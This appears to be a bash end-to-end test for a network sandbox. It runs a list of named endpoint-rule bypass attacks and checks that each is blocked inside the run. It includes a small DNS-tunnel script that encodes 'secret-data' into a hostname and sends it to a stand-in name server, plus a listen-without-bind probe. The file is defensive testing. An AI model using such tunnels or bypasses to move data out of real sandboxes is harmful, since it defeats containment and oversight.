#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Ways past rules on endpoints: each reaches what it is after outside of the sandbox, and nothing inside.
E2E_WHO=root
. "$(dirname "$0")/../support/e2e.sh"
. "$(dirname "$0")/connect.sh"

attacks=$(dirname "$0")/connect_attacks.py

# NAME of one that has no control outside of a run's namespace: `inside`
attack() # NAME [inside]
{
	local w
	if [ "${2:-}" != inside ]; then
		got=$(python3 "$attacks" "$1" 2>&1)
		if [ "$got" != REACHED ]; then
			skip "$1" "outside: $got"
			return
		fi
	fi
	full || export CONNECT_SECONDS=0.7 # a race inside; outside it ends when it is won
	for w in $WHO; do
		launch_as $w -q --read "$attacks" --connect a.example.net:80 -- python3 "$attacks" "$1"
		if [ "$status" -eq 0 ] && ! grep -q REACHED "$TMP/out" && [ -s "$TMP/out" ]; then
			ok "$w: $1: $(tr '\n' ' ' <"$TMP/out" | tr -d '#')"
		else
			{ echo "status $status"; cat "$TMP/out" "$TMP/err"; } | not_ok "$w: $1"
		fi
	done
	unset CONNECT_SECONDS
}

check 'what is allowed is reached' "$SBX" --connect a.example.net:80 -- curl -sS -m 20 -o /dev/null http://a.example.net/

for a in literal name trailing_dot mapped six decimal $(first 2 host_loopback host_mapped host_zero host_short host_number) \
	datagram quic dns raw packet icmp mptcp fast_open fast_open_connect source_route uring abstract unspec route \
	look_alike nat64 again resolved flipped; do
	attack $a
done
for a in swapped relay; do
	attack $a inside
done

# What a name leads to is looked at when it is dialled, not when it was asked for.
as_each 'a name that comes to lead elsewhere' 0 '^13 13$' --connect turns.example.net:80 -- python3 -c '
import errno, socket
said = []
for _ in range(2):
    s = socket.socket()
    try: s.connect((socket.gethostbyname("turns.example.net"), 80)); said.append("open")
    except OSError as e: said.append(str(e.errno))
print(*said)'

# What is written into a name reaches nobody: by the system's resolver, and to a name server of one's own choice.
cat >"$TMP/tunnel.py" <<'P'
import socket, struct
name = b"".join(bytes([len(l)]) + l for l in b"secret-data.tunnel.other.example.net".split(b".")) + b"\0"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
try:
    s.sendto(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1), ("192.0.2.53", 53)); s.recv(512)
except OSError: pass
try: socket.gethostbyname("secret-data.tunnel.other.example.net")
except OSError: pass
P
[ -z "${PLACE:-}" ] || { cp "$TMP/tunnel.py" "$PLACE/ws/"; chmod 644 "$PLACE/ws/tunnel.py"; }
cp "$TMP/tunnel.py" .
: >"$NAMES/asked"
python3 tunnel.py
check 'outside, a name server learns the name' grep -q '^secret-data.tunnel' "$NAMES/asked"
: >"$NAMES/asked"
as_each 'a tunnel of names: the program runs' 0 'denied connect secret-data.tunnel' --connect a.example.net:80 -- python3 tunnel.py
check 'and no name server learns it' sh -c '! grep -q secret-data "$1"' sh "$NAMES/asked"

# A server that listens without bind(2) is at a port of every address: of the run alone.
cat >"$TMP/listens.py" <<'P'
import socket, sys, time
s = socket.socket(); s.listen(5); s.settimeout(5)
with open(sys.argv[1], "w") as f: f.write(str(s.getsockname()[1]))
try: s.accept(); print("CAME")
except OSError: print("nobody")
P
stranger() # PORT-FILE: connects from outside
{
	local n
	for n in $(seq 50); do
		[ -s "$1" ] && break
		sleep 0.1
	done
	python3 -c 'import socket, sys; socket.create_connection(("127.0.0.1", int(open(sys.argv[1]).read())), 2)' "$1" 2>/dev/null
}
python3 "$TMP/listens.py" "$TMP/port" >"$TMP/came" &
listens=$!
stranger "$TMP/port"
wait $listens
check 'outside, a stranger comes' grep -q CAME "$TMP/came"
rm -f port "$TMP/port"
"$SBX" -q --connect a.example.net:80 --read "$TMP/listens.py" -- python3 "$TMP/listens.py" port >"$TMP/came" 2>&1 &
listens=$!
stranger port
wait $listens
check 'inside, nobody comes' grep -q nobody "$TMP/came"
